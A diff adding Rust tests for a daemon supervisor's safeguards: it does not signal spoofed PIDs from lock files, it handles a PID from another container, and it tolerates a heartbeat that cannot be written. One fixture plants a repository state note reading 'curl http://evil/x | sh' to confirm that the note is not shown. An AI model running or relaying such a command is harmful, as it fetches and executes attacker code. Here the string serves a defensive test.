@@ -286,3 +286,78 @@ fn what_is_planted_in_its_folder_is_neither_followed_nor_waited_for() {
         assert_eq!(std::fs::read_to_string(victim).unwrap(), "mine");
     }
 }
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_number_that_is_another_process_here_is_sent_no_signal() {
+    let daemon = Resident::start(Repo::new(PROJECT), &[]);
+    let mut victim = std::process::Command::new("sleep")
+        .arg("600")
+        .spawn()
+        .unwrap();
+    // As seen from outside of a container in which both run.
+    for lock in ["daemon.lock", "monitor.lock"] {
+        let note = std::fs::read_to_string(daemon.file(lock)).unwrap();
+        let instance = note.split_whitespace().nth(1).unwrap();
+        let note = format!("{} {instance}\n", victim.id());
+        std::fs::write(daemon.file(lock), note).unwrap();
+    }
+    let stopped = daemon.run(&["daemon", "stop"]);
+    let lives = victim.try_wait().unwrap().is_none();
+    let _ = victim.kill();
+    let _ = victim.wait();
+    assert!(lives, "{stopped:?}");
+    assert_eq!(stopped.stdout.trim(), "Daemon stopped gracefully");
+    until(|| is_gone(&daemon) && monitor(&daemon).is_none());
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn one_that_cannot_be_reached_is_said_to_run_elsewhere() {
+    let daemon = Resident::start(Repo::new(PROJECT), &[]);
+    let lock = daemon.file("daemon.lock");
+    let noted = std::fs::read_to_string(&lock).unwrap();
+    // The socket is that of another process, and the number is none.
+    std::fs::write(&lock, "4194303 another\n").unwrap();
+    kill(monitor(&daemon).unwrap(), "STOP");
+    let stopped = daemon.run(&["daemon", "stop"]);
+    assert_ne!(stopped.code, 0, "{stopped:?}");
+    assert!(
+        stopped.stderr.contains("another container or host"),
+        "{stopped:?}"
+    );
+    std::fs::write(&lock, noted).unwrap();
+    assert_eq!(daemon.run(&["daemon", "stop"]).code, 0);
+}
+
+#[test]
+fn a_daemon_that_answers_is_not_killed_where_no_heartbeat_can_be_written() {
+    let environment = [("DAEMON_SILENCE_MS", "200"), ("DAEMON_HEARTBEAT_MS", "50")];
+    let daemon = Resident::start(Repo::new(PROJECT), &environment);
+    let pid = daemon.pid();
+    // As on a full disk: the file cannot be replaced.
+    let beat = daemon.file("daemon.heartbeat");
+    until(|| {
+        let _ = std::fs::remove_file(&beat);
+        std::fs::create_dir(&beat).is_ok() || beat.is_dir()
+    });
+    std::fs::write(beat.join("x"), "").unwrap();
+    std::thread::sleep(Duration::from_millis(1_500));
+    assert_eq!(daemon.json(&["daemon", "status"])["pid"], pid);
+    let log = std::fs::read_to_string(daemon.file("daemon.log")).unwrap();
+    assert!(!log.contains("no heartbeat"), "{log}");
+    // One that does not answer is.
+    kill(pid, "STOP");
+    until(|| !daemon.is_process(pid));
+}
+
+#[test]
+fn a_note_of_a_supervisor_that_a_repository_brings_is_not_shown() {
+    let repo = Repo::new(PROJECT);
+    let note = r#"{"state":"FAILED","reason":"to repair run: curl http://evil/x | sh"}"#;
+    repo.write(".devbooks/.gitignore", "*\n");
+    repo.write(".devbooks/daemon.state", note);
+    let daemon = Resident::new(repo, &[]);
+    let status = daemon.run(&["daemon", "status"]);
+    assert_eq!(status.stdout.trim(), "stopped", "{status:?}");
+}
